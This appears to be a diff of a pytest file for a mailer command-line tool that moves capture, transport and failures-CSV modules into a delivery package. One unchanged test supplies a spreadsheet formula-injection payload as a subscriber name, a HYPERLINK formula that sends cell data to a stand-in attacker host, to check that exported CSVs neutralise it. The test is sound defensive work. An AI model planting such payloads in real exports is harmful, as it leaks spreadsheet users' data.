@@ -9,9 +9,9 @@ from pathlib import Path
 import pytest
 from typer.testing import CliRunner
 
-from mailer.capture import CaptureHandler, list_captured, start_capture
 from mailer.cli import delivery as delivery_cli
 from mailer.cli.main import app
+from mailer.delivery.capture import CaptureHandler, list_captured, start_capture
 from tests.smtpd import SMTPTestServer, free_port
 
 REPO = Path(__file__).resolve().parent.parent
@@ -121,7 +121,7 @@ def test_bad_issue_file_names_file_and_line(mailer, tmp_path: Path) -> None:
 
 
 def test_capture_server_stores_and_lists(tmp_path: Path) -> None:
-    from mailer.transport import SMTPTransport
+    from mailer.delivery.transport import SMTPTransport
 
     port = free_port()
     directory = tmp_path / "captured"
@@ -205,7 +205,7 @@ def test_failures_csv_neutralises_formulas_like_the_web_export(
     mailer, server: SMTPTestServer, tmp_path: Path
 ) -> None:
     """A name a spreadsheet would run as a formula is written with an apostrophe before
-    it, as the web app's failures.csv does (both are `mailer.failurescsv`)."""
+    it, as the web app's failures.csv does (both are `mailer.delivery.failurescsv`)."""
     formula = '=HYPERLINK("https://evil.example/?leak="&A2,"open")'
     mailer("lists", "add", "newsletter")
     mailer("subscribers", "add", "gone@example.org", "--name", formula, "--list", "newsletter")
